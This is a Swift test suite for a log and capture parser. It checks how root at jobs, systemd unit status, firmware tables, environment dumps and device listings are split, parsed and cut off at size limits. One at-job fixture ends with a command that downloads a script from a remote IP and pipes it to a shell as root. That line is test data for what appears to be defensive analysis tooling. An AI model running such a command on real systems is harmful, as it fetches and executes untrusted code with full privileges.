import Evidence
import Testing

@testable import LogParse

/// Captures that are larger than usual, and names and values that are odder.
@Suite struct LargeCaptureTests {
  private func dump(_ text: String, _ path: String = "x.txt") throws -> EventDump { try EventDump(text, path: path) }
  private func isWhole(_ dump: EventDump) -> Bool { dump.coverages.allSatisfy { $0.state == .parsed } }
  private func list(_ event: Event?, _ name: String) -> [String] {
    guard case .texts(let texts) = event?.attributes.first(where: { $0.name == name })?.value else { return [] }
    return texts
  }

  private let job = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\nA=1; export A\ncd /root || {\n\t exit 1\n}\n"

  @Test func largeJobsAreToldInParts() throws {
    let filler = String(repeating: "echo \(String(repeating: "a", count: 90))\n", count: 2000)
    let dump = try dump(job + filler + "curl http://203.0.113.66/x | sh\n")
    #expect(dump.format == "capture.at" && isWhole(dump) && dump.events.count > 1)
    #expect(dump.events.last?.text("command")?.hasSuffix("curl http://203.0.113.66/x | sh") == true)
    #expect(dump.events.last?.text("user") == "root" && list(dump.events.last, "environment").isEmpty)
    #expect(dump.events.compactMap { $0.text("command") }.joined(separator: "; ").utf8.count > filler.utf8.count)
    let small = try self.dump(job + "true\n")
    #expect(small.events.count == 1 && small.events.first?.attributes.contains { $0.name == "part" } == false)
  }

  @Test func whatIsNotKeptOfAJobIsTold() throws {
    let filler = String(repeating: "echo \(String(repeating: "a", count: 90))\n", count: 12000)
    let dump = try dump(job + filler)
    #expect(dump.coverages.contains { $0.state == .skipped && $0.reason == "more than is kept of a job of at" })
  }

  @Test func allProcessesOfAUnit() throws {
    let head = "● x.service - x\n     Loaded: loaded\n     CGroup: /system.slice/x.service\n"
    let few = try dump(head + (1...5000).map { "             ├─\($0) cmd\n" }.joined())
    #expect(few.format == "capture.systemd_status" && isWhole(few))
    #expect(list(few.events.first, "processes").count == 5000)
    let many = try dump(head + (1...90000).map { "             ├─\($0) command\n" }.joined())
    #expect(many.coverages.contains { $0.state == .skipped && $0.reason == "more than is kept of a unit's status" })
  }

  @Test func allFieldsOfATable() throws {
    let head = "Handle 0x0001, DMI type 1, 27 bytes\nSystem Information\n"
    let few = try dump(head + (1...260).map { "\tField \($0): x\n" }.joined() + "\tList:\n\t\ta\n\t\tb\n")
    #expect(list(few.events.first, "fields").count == 261 && isWhole(few))
    #expect(list(few.events.first, "fields").last == "List: a; b")
    let many = try dump(head + (1...90000).map { "\tField \($0): x\n" }.joined())
    #expect(
      many.coverages.contains { $0.state == .skipped && $0.reason == "more than is kept of a table of the firmware" })
  }

  @Test func functionsInTheEnvironment() throws {
    let dump = try dump(
      "PATH=/bin\nHOME=/root\nSHELL=/bin/sh\nUSER=root\nBASH_FUNC_ls%%=() {  :\n}\nBASH_FUNC_my-x()=() {  :\n}\nPWD=/\n",
      "env.txt")
    #expect(
      list(dump.events.first, "environment") == [
        "PATH=/bin", "HOME=/root", "SHELL=/bin/sh", "USER=root", "BASH_FUNC_ls%%=() {  :\n}",
        "BASH_FUNC_my-x()=() {  :\n}", "PWD=/",
      ])
    let near = try self.dump("PATH=/bin\nHOME=/root\nSHELL=/bin/sh\nls%%=1\nBASH_FUNC_%%=2\nPWD=/\n", "env.txt")
    #expect(list(near.events.first, "environment").count == 4)
  }

  @Test func namesOfADomain() throws {
    let dump = try dump(
      #"uid=1000(CORP\bob) gid=513(CORP\domain users) groups=513(CORP\domain users),27(a,b),9(x (y)),7 context=u:r:t"#
        + "\n")
    #expect(dump.format == "capture.id" && dump.events.first?.text("user") == #"CORP\bob"#)
    #expect(list(dump.events.first, "groups") == [#"CORP\domain users"#, "a,b", "x (y)", "7"])
    #expect(dump.events.first?.text("context") == "u:r:t")
    #expect(try self.dump("uid=1000(bob) and gid=5(x)\n").format != "capture.id")
  }

  @Test func otherMountPointsOfADevice() throws {
    let dump = try dump(
      """
      NAME    MAJ:MIN RM SIZE RO TYPE MOUNTPOINTS
      sda       8:0    0   8G  0 disk 
      ├─sda1    8:1    0   1G  0 part /efi
      │                               /boot dir
      └─sda2    8:2    0   1G  0 part /
                                      [SWAP]

      """)
    #expect(isWhole(dump))
    #expect(dump.events.map { $0.text("device") } == ["sda", "sda1", "sda1", "sda2", "sda2"])
    #expect(dump.events.map { $0.text("mount_point") } == [nil, "/efi", "/boot dir", "/", "[SWAP]"])
    let orphan = try self.dump("NAME MAJ:MIN RM SIZE RO TYPE MOUNTPOINTS\n│   /boot\n")
    #expect(orphan.events.isEmpty)
  }
}
